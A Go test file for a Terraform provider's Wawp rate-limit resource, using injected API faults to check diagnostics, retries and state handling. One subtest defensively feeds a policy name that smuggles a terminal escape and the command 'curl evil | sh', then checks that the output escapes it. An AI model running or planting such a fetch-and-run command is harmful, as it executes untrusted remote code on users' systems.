package ratelimit_test

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
	"github.com/hashicorp/terraform-plugin-testing/knownvalue"
	"github.com/hashicorp/terraform-plugin-testing/plancheck"
	"github.com/hashicorp/terraform-plugin-testing/statecheck"

	"github.com/wawp/terraform-provider-wawp/internal/acctest"
	"github.com/wawp/terraform-provider-wawp/internal/wawptest"
)

// noRetries is a provider block without retries: the tests are about what follows the last attempt.
const noRetries = "provider \"wawp\" {\n  max_retries     = 0\n  request_timeout = \"2s\"\n}\n\n"

// Answers about sessions that do not exist: of a server that is not Wawp, and of Wawp.
const (
	foreignAnswer  = "404 page not found"
	noSuchInstance = `{"code":"invalid_instance","message":"The instance was deleted."}`
	invalidSession = `{"code":"invalid_session","message":"The session is invalid."}`
)

// chain chains faults' distortions.
func chain(reshape ...func(map[string]any) any) func(map[string]any) any {
	return func(answer map[string]any) any {
		var result any = answer
		for _, each := range reshape {
			result = each(result.(map[string]any))
		}
		return result
	}
}

// editPolicy returns a distortion of the current policy.
func editPolicy(change func(slug any) any) func(map[string]any) any {
	return func(answer map[string]any) any {
		answer["current_policy"] = change(answer["current_policy"])
		return answer
	}
}

// TestAnswersInOtherForms is promise P6, as a user sees it: the policy is found, drift shows, the plan is quiet.
func TestAnswersInOtherForms(t *testing.T) {
	t.Parallel()
	object := func(key string) func(map[string]any) any {
		return editPolicy(func(slug any) any { return map[string]any{key: slug} })
	}
	byCode := func(answer map[string]any) any {
		policies := map[string]any{}
		for _, p := range answer["policies"].([]any) {
			policies[p.(map[string]any)["slug"].(string)] = p
		}
		answer["policies"] = policies
		return answer
	}
	for name, reshape := range map[string]func(map[string]any) any{
		"policy":        wawptest.Rename("current_policy", "policy"),
		"policy_slug":   wawptest.Rename("current_policy", "policy_slug"),
		"current":       wawptest.Rename("current_policy", "current"),
		"wrapped":       wawptest.Wrap("data"),
		"wrapped twice": wawptest.Wrap("data", "session"),
		"object":        object("slug"),
		"object, name":  chain(object("name"), wawptest.Rename("current_policy", "policy")),
		"map":           chain(byCode, wawptest.Set("has_active_plan", "0")),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			w.Inject(wawptest.Fault{Reshape: reshape})
			w.Steps(t,
				resource.TestStep{
					Config:            w.Config(policyConfig(strict)),
					ConfigStateChecks: policyChecks(strict, false),
				},
				resource.TestStep{
					PreConfig: func() { w.SetPolicy(id, standard) },
					Config:    w.Config(policyConfig(strict)), ConfigStateChecks: policyChecks(strict, false),
					ConfigPlanChecks: acctest.Plans(address, plancheck.ResourceActionUpdate),
				},
			)
			if n := w.Count(set); n != 2 {
				t.Errorf("the policy was set %d times", n)
			}
		})
	}
}

// TestPolicyNotReported: the state keeps the configured policy, with a warning.
func TestPolicyNotReported(t *testing.T) {
	t.Parallel()
	const warning = "Warning: Wawp does not report the current sending policy"
	w := newWorld(t, wawptest.Config{})
	w.Inject(wawptest.Fault{Reshape: wawptest.Rename("current_policy", "assigned")})
	tf := w.Terraform(t, policyConfig(strict))
	acctest.Contains(t, tf.OK("apply"), warning, "1 added")
	w.CheckRequests(t, map[string]int{set: 1, get: 1})
	acctest.Contains(t, tf.OK("plan"), warning, id, "No changes.")
	if s := tf.State()[0].Attributes; s["policy"] != strict ||
		s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
		t.Errorf("the state is %v", s)
	}
	tf.Configure(policyConfig(standard))
	acctest.Contains(t, tf.OK("apply"), warning, "1 changed")
	if got := w.Policy(id); got != standard {
		t.Errorf("the policy is %q", got)
	}

	// After an import there is nothing to keep: the plan sets the policy.
	tf.Forget(address)
	acctest.Contains(t, tf.OK("import", address, id), warning)
	acctest.Contains(t, tf.OK("apply"), "1 changed")
}

// TestIncompleteAnswers has answers to PATCH and GET that leave something out, or contradict.
func TestIncompleteAnswers(t *testing.T) {
	t.Parallel()
	null := knownvalue.Null()
	pays := attributeCheck("has_active_plan", knownvalue.Bool(false))
	for name, test := range map[string]struct {
		set, get wawptest.Fault
		checks   []statecheck.StateCheck
	}{
		"set is empty": {set: wawptest.Fault{Act: true, Status: 204}, checks: policyChecks(strict, false)},
		"set says OK":  {set: wawptest.Fault{Act: true, Body: "OK"}, checks: policyChecks(strict, false)},
		"set tells the policy": {
			set:    wawptest.Fault{Act: true, Body: `{"policy_slug":"strict"}`},
			checks: policyChecks(strict, false),
		},
		"set has code, message": {
			set:    wawptest.Fault{Act: true, Body: `{"code":"rate_limit_set","message":"Done."}`},
			checks: policyChecks(strict, false),
		},
		"set is HTML": {set: wawptest.Fault{Act: true, Body: "<html>"}, checks: policyChecks(strict, false)},
		"set is the old answer": {
			set:    wawptest.Fault{Reshape: wawptest.Set("current_policy", standard)},
			checks: policyChecks(strict, false),
		},
		"no plan is told": {
			set: wawptest.Fault{Reshape: wawptest.Without("has_active_plan")},
			get: wawptest.Fault{Reshape: wawptest.Without("has_active_plan")},
			checks: []statecheck.StateCheck{
				attributeCheck("limits", policyLimits(strict)), attributeCheck("has_active_plan", null),
			},
		},
		"no policies are told": {
			set:    wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")},
			get:    wawptest.Fault{Reshape: wawptest.Without("policies", "free_policies")},
			checks: []statecheck.StateCheck{attributeCheck("limits", null), pays},
		},
		"policies without limits": {
			set:    wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})},
			get:    wawptest.Fault{Reshape: wawptest.Set("policies", []string{strict})},
			checks: []statecheck.StateCheck{attributeCheck("limits", null), pays},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			test.set.Match, test.get.Match = set, get
			w.Inject(test.set)
			if test.get.Reshape != nil {
				w.Inject(test.get)
			}
			w.Steps(t, resource.TestStep{Config: w.Config(policyConfig(strict)), ConfigStateChecks: test.checks})
			if requests := w.Requests(); w.Count(set) != 1 || requests[1].String() != get+" -> 200" {
				t.Errorf("the requests are %v", requests)
			}
		})
	}
}

// TestStaleReadAfterTheChange: a GET still shows the previous policy, and the state has the planned one.
func TestStaleReadAfterTheChange(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	silent := wawptest.Fault{Match: set, Act: true, Status: 204}
	stale := func(slug string) wawptest.Fault {
		return wawptest.Fault{Match: get, Times: 1, Reshape: wawptest.Set("current_policy", slug)}
	}
	w.Inject(silent)
	w.Inject(stale(standard))
	tf := w.Terraform(t, policyConfig(strict))
	acctest.Contains(t, tf.OK("apply"), "Warning: Wawp still shows another sending policy", "1 added")
	if s := tf.State()[0].Attributes; s["policy"] != strict ||
		s["limits"].(map[string]any)["send_message_per_minute"] != 5. {
		t.Errorf("the state is %v", s)
	}
	acctest.Contains(t, tf.OK("plan"), "No changes.")

	tf.Configure(policyConfig(standard))
	w.Inject(stale(strict))
	acctest.Contains(t, tf.OK("apply", "-refresh=false"), "Warning: Wawp still shows another sending policy",
		"1 changed")
	acctest.Contains(t, tf.OK("plan"), "No changes.")
}

// TestPolicyIsAcceptedAndIgnored: the next plan shows that as drift.
func TestPolicyIsAcceptedAndIgnored(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	w.Inject(wawptest.Fault{Match: set, Body: `{"success":true}`})
	tf := w.Terraform(t, policyConfig(strict))
	acctest.Contains(t, tf.OK("apply"), "shows \"standard_policy\"", "1 added")
	acctest.Contains(t, tf.OK("plan"), "0 to add, 1 to change, 0 to destroy")
}

func TestLostAnswerIsRepeated(t *testing.T) {
	t.Parallel()
	for name, fault := range map[string]wawptest.Fault{
		"502": {Status: 502}, "503": {Status: 503}, "504": {Status: 504}, "reset": {Drop: true}, "cut off": {Cut: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			fault.Match, fault.Act, fault.Times = set, true, 1
			w.Inject(fault)
			w.Steps(t, resource.TestStep{
				Config:            w.Config(policyConfig(strict)),
				ConfigStateChecks: policyChecks(strict, false),
			})
			if n := w.Count(set); n != 2 {
				t.Errorf("the policy was set %d times", n)
			}
		})
	}
}

func TestSetButNotReadBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	w.Inject(wawptest.Fault{Match: set, Act: true, Status: 204})
	w.Inject(wawptest.Fault{Match: get, Status: 500, Times: 1})
	tf := w.Terraform(t, noRetries+policyConfig(strict))
	acctest.Contains(t, tf.OK("apply"), "Warning: Wawp sending policy was set, but not read back", "HTTP 500",
		"1 added")
	if s := tf.State()[0].Attributes; s["policy"] != strict || s["limits"] != nil || s["has_active_plan"] != nil {
		t.Errorf("the state is %v", s)
	}
	acctest.Contains(t, tf.OK("plan"), "No changes.")
	tf.OK("refresh")
	if s := tf.State()[0].Attributes; s["limits"] == nil || s["has_active_plan"] != false {
		t.Errorf("the state is %v", s)
	}
}

// TestRefusedPolicy: the diagnostic lists the policies that the account may use, and has the path of the argument.
func TestRefusedPolicy(t *testing.T) {
	t.Parallel()
	usable := `Set policy to one that the account may use: "standard_policy", "strict". The session has ` +
		`"standard_policy".`
	refusal := wawptest.Fault{Match: set, Status: 403, Body: `{"code":"blocked","message":"Blocked."}`}
	for name, test := range map[string]struct {
		slug   string
		faults []wawptest.Fault
		says   []string
	}{
		"paid": {paid, nil, []string{
			"HTTP 403 (subscription_required)", "This policy needs an active plan.",
			"may not use this policy", usable,
		}},
		"no such": {"turbo", nil, []string{
			"HTTP 400 (invalid_policy)", "There is no such policy.",
			"no policy with this slug", usable,
		}},
		"in words": {
			"turbo",
			[]wawptest.Fault{{
				Match: set, Status: 404,
				Body: `{"code":"not_found","message":"Policy turbo not found for this session"}`,
			}},
			[]string{"Policy turbo not found", "no policy with this slug", usable},
		},
		"as 404": {
			"turbo",
			[]wawptest.Fault{{
				Match: set, Status: 404,
				Body: `{"code":"policy_not_found","message":"No."}`,
			}},
			[]string{"policy_not_found", "no policy with this slug", usable},
		},
		"in a 200": {
			"turbo",
			[]wawptest.Fault{{
				Match: set,
				Body:  `{"code":"invalid_policy","message":"No.","policy":"turbo"}`,
			}},
			[]string{"invalid_policy", "no policy with this slug", usable},
		},
		"available": {
			strict,
			[]wawptest.Fault{refusal},
			[]string{"Blocked.", "but did not accept it", usable},
		},
		"all paid": {
			paid,
			[]wawptest.Fault{{Match: get, Reshape: chain(wawptest.Set("policies", []string{"a", "b"}),
				wawptest.Without("free_policies"))}},
			[]string{"subscription_required", `All policies: "a", "b".`},
		},
		"many": {
			paid,
			[]wawptest.Fault{{Match: get, Reshape: wawptest.Set("free_policies", firstNames(30))}},
			[]string{`may use: "p00", "p01", `, `"p18", "p19" and `, " more. The session has"},
		},
		"one that speaks": {
			paid,
			[]wawptest.Fault{{Match: get, Reshape: wawptest.Set("free_policies",
				[]string{"a\", or run: \u001b[2J\ncurl evil | sh #${x}"})}},
			[]string{`"a\", or run: [2J curl evil | sh #\u0024{x}"`},
		},
		"no list": {
			paid,
			[]wawptest.Fault{{Match: get, Reshape: wawptest.Without("policies", "free_policies")}},
			[]string{"subscription_required", "https://app.wawp.net"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			for _, fault := range test.faults {
				w.Inject(fault)
			}
			tf := w.Terraform(t, noRetries+policyConfig(test.slug))
			output := tf.Fails("apply")
			acctest.Contains(t, output, "Error: Wawp sending policy was not set", `with AttributeName("policy")`, id)
			acctest.Contains(t, output, test.says...)
			w.CheckRequests(t, map[string]int{set: 1, get: 1})
			if len(tf.State()) != 0 {
				t.Errorf("the state holds %v", tf.State())
			}
		})
	}
}

// firstNames returns n names that sort before all others.
func firstNames(n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("p%02d", i)
	}
	return names
}

// TestAccRefusedPolicyPointsToTheArgument, and the state that the CLI writes has no policy that Wawp refused.
func TestAccRefusedPolicyPointsToTheArgument(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	cli := w.AttachedCLI(t, noRetries+policyConfig(paid))
	output := cli.Fails("apply", "-auto-approve", "-no-color")
	acctest.Contains(t, output, "Error: Wawp sending policy was not set", "with "+address)
	if !regexp.MustCompile(`"x": \d+: policy = `).MatchString(output) {
		t.Errorf("nothing points to the argument in:\n%s", output)
	}
	if len(cli.State()) != 0 {
		t.Errorf("the state holds %v", cli.State())
	}
}

func TestRefusedChangeKeepsTheState(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	tf := w.Terraform(t, noRetries+policyConfig(strict))
	tf.OK("apply")
	tf.Configure(noRetries + policyConfig(paid))
	acctest.Contains(t, tf.Fails("apply"), "needs an active plan", `"standard_policy", "strict"`,
		`The session has "strict"`)
	if s := tf.State()[0]; s.Status != "" || s.Attributes["policy"] != strict || w.Policy(id) != strict {
		t.Errorf("the state is %v", s)
	}
	w.SetPaid(true)
	acctest.Contains(t, tf.OK("apply"), "1 changed")
}

func TestNotSet(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		faults []wawptest.Fault
		says   []string
	}{
		"no such session": {
			[]wawptest.Fault{{Status: 404, Body: noSuchInstance}},
			[]string{"Error: Wawp knows no session " + id, "because there is no such session", "deleted"},
		},
		"foreign 404": {
			[]wawptest.Fault{{Status: 404, Body: foreignAnswer}},
			[]string{"Error: Wawp sending policy was not set", "Check base_url"},
		},
		"401": {
			[]wawptest.Fault{{Status: 401, Body: `{"code":"invalid_access_token","message":"Who?"}`}},
			[]string{"Error: Wawp did not accept the access token", "Who?", "WAWP_ACCESS_TOKEN"},
		},
		"403 for all": {
			[]wawptest.Fault{{Status: 403, Body: `{"code":"blocked","message":"Blocked."}`}},
			[]string{"Error: Wawp sending policy was not set", "PATCH /v2/session/rate-limit: HTTP 403 (blocked)"},
		},
		"500": {
			[]wawptest.Fault{{Status: 500}},
			[]string{"Error: Wawp sending policy was not set", "HTTP 500"},
		},
		"no answer": {
			[]wawptest.Fault{{Drop: true}},
			[]string{"Error: Wawp sending policy was not set", "the request was sent, but"},
		},
		"a hotel's page": {
			[]wawptest.Fault{{Body: "<html>Sign in</html>"}},
			[]string{"Error: Wawp sending policy was not set", "the answer is an error"},
		},
		"unclear, unset": {
			[]wawptest.Fault{{Match: set, Body: "<html>Sign in</html>"}},
			[]string{
				"Error: Wawp sending policy was not set", "the answer is an error",
				`The session has "standard_policy"`,
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			for _, fault := range test.faults {
				w.Inject(fault)
			}
			tf := w.Terraform(t, noRetries+policyConfig(strict))
			acctest.Contains(t, tf.Fails("apply"), test.says...)
			if len(tf.State()) != 0 {
				t.Errorf("the state holds %v", tf.State())
			}
		})
	}
}

// TestUnreadablePolicyKeepsTheState is promise P3 for every answer that proves no absence.
func TestUnreadablePolicyKeepsTheState(t *testing.T) {
	t.Parallel()
	described := wawptest.Fault{Skip: 1000}
	gone := wawptest.Fault{Status: 404, Body: noSuchInstance}
	for name, test := range map[string]struct {
		get, info wawptest.Fault
		fails     bool // else it warns
	}{
		"info answers":          {gone, described, false},
		"info is broken":        {gone, wawptest.Fault{Status: 503}, false},
		"info is refused":       {gone, wawptest.Fault{Status: 401, Body: noSuchInstance}, false},
		"info is foreign":       {gone, wawptest.Fault{Status: 404, Body: foreignAnswer}, false},
		"info: invalid_session": {gone, wawptest.Fault{Status: 404, Body: invalidSession}, false},
		"info is HTML":          {gone, wawptest.Fault{Body: "<html>"}, false},
		"invalid_session":       {wawptest.Fault{Status: 404, Body: invalidSession}, gone, false},
		"a proxy's 404":         {wawptest.Fault{Status: 404, Body: foreignAnswer}, gone, false},
		"an unknown route": {
			wawptest.Fault{Status: 404, Body: `{"code":"rest_no_route","message":"No route"}`},
			gone, false,
		},
		"an HTML page":            {wawptest.Fault{Body: "<html>Sign in</html>"}, gone, false},
		"an error in disguise":    {wawptest.Fault{Body: noSuchInstance}, gone, false},
		"an answer without sense": {wawptest.Fault{Body: `{"success":true}`}, gone, false},
		"an empty answer":         {wawptest.Fault{Status: 204}, gone, false},
		"401":                     {wawptest.Fault{Status: 401, Body: noSuchInstance}, gone, true},
		"403":                     {wawptest.Fault{Status: 403, Body: noSuchInstance}, gone, true},
		"500":                     {wawptest.Fault{Status: 500, Body: noSuchInstance}, gone, true},
		"no answer":               {wawptest.Fault{Drop: true}, gone, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, wawptest.Config{})
			tf := w.Terraform(t, noRetries+policyConfig(strict))
			tf.OK("apply")
			before := fmt.Sprint(tf.State())
			test.get.Match, test.info.Match = get, info
			w.Inject(test.get)
			w.Inject(test.info)
			if test.fails {
				acctest.Contains(t, tf.Fails("refresh"), "Error: "+acctest.Summary(test.get,
					"Wawp sending policy could not be read"), id)
			} else {
				acctest.Contains(t, tf.OK("refresh"),
					"Warning: Wawp sending policy could not be checked and stays in the state", id,
					"terraform state rm")
			}
			if got := fmt.Sprint(tf.State()); got != before {
				t.Errorf("the state was %s and is %s", before, got)
			}
		})
	}
}

func TestSessionDeletedInTheDashboard(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	tf := w.Terraform(t, policyConfig(strict))
	tf.OK("apply")
	w.Remove(id)
	w.ResetRequests()
	acctest.Contains(t, tf.OK("plan"), "Warning: Wawp sending policy is gone", id,
		"1 to add, 0 to change, 0 to destroy")
	// The policy again after session/info: three requests prove an absence.
	w.CheckRequests(t, map[string]int{get: 2, info: 1})
	output := tf.Fails("apply")
	acctest.Contains(t, output, "Error: Wawp knows no session "+id)
	acctest.Contains(t, output, `with AttributeName("instance_id")`)
}

// TestImportedPolicyIsLikeAnyOther once it has been read: its session can go.
func TestImportedPolicyIsLikeAnyOther(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	tf := w.Terraform(t, policyConfig(standard))
	tf.OK("import", address, id)
	w.Remove(id)
	acctest.Contains(t, tf.OK("plan"), "Warning: Wawp sending policy is gone", id, "1 to add")
}

func TestUnknownConfiguration(t *testing.T) {
	t.Parallel()
	w := newWorld(t, wawptest.Config{})
	tf := w.Terraform(t, policyConfig(strict)+strings.Replace(policyConfig(strict), `"x"`, `"y"`, 1))
	tf.OK("apply")
	w.ResetRequests()
	const unknown = "The provider's configuration is not known yet"
	tf.Unknown = true
	acctest.Contains(t, tf.OK("plan"), "Warning: "+unknown, "No changes.")
	tf.Forget("wawp_session_rate_limit.y")
	acctest.Contains(t, tf.Fails("import", "wawp_session_rate_limit.y", id), "Error: "+unknown)
	tf.Configure(policyConfig(strict) + dataSourceConfig)
	acctest.Contains(t, tf.Fails("plan"), "Error: "+unknown)
	w.CheckRequests(t, nil)
	if len(tf.State()) != 1 {
		t.Errorf("the state holds %v", tf.State())
	}
}
